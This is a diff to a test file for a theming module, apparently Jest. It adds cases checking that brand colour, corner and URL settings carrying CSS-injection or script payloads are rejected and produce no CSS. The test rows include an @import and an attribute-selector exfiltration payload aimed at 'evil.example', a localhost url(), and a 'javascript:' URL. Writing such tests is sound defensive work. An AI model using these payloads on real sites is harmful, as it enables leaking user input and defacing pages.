@@ -40,6 +40,11 @@ describe("a brand's settings", () => {
   it.each([
     ['primaryColor', 'red;}body{display:none', 'setting_colour_invalid'],
     ['primaryColor', '</style><script>', 'setting_colour_invalid'],
+    ['primaryColor', '#fff;}@import "//evil.example/x.css";{', 'setting_colour_invalid'],
+    ['primaryColor', 'url(http://127.0.0.1/x)', 'setting_colour_invalid'],
+    ['accentColor', '#fff}input[value^=a]{background:url(//evil.example/a)}', 'setting_colour_invalid'],
+    ['accentColor', '#fff;position:fixed;inset:0', 'setting_colour_invalid'],
+    ['corners', 'soft;}body{position:fixed}', 'setting_option_unknown'],
     ['logoUrl', 'javascript:alert(1)', 'setting_url_invalid'],
     ['logoUrl', '//evil.example/x.png', 'setting_url_invalid'],
     ['logoUrl', 'data:image/svg+xml,<svg/>', 'setting_url_invalid'],
@@ -48,7 +53,7 @@ describe("a brand's settings", () => {
     ['tagline', 'x'.repeat(121), 'setting_text_too_long'],
     ['headingFont', 'Comic Sans', 'setting_option_unknown'],
     ['customCss', 'body{}', 'setting_unknown'],
-  ])('refuses %s = %s and lets none of it into the page', (setting, value, code) => {
+  ])('I70 refuses %s = %s and lets none of it into the page', (setting, value, code) => {
     expect(themes.validateBrandSettings('marea', { [setting]: value }).map((finding) => finding.code)).toEqual([code]);
     expect(themes.brandCss(buildBrand({ settings: { [setting]: value } }))).toBe('');
   });
